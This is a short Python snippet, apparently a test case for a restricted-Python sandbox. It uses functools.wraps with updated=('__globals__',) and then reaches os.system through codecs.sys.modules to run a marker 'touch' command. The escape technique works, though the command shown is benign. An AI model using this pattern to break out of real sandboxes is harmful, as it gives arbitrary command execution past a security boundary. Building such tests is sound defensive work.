# escape: functools.wraps (update_wrapper behind it) with updated=__globals__
# effect: marker
import functools
import json
def sink():
    pass
functools.wraps(json.dumps, assigned=(), updated=("__globals__",))(sink)
codecs.sys.modules["os"].system("touch {marker}")
return "done"
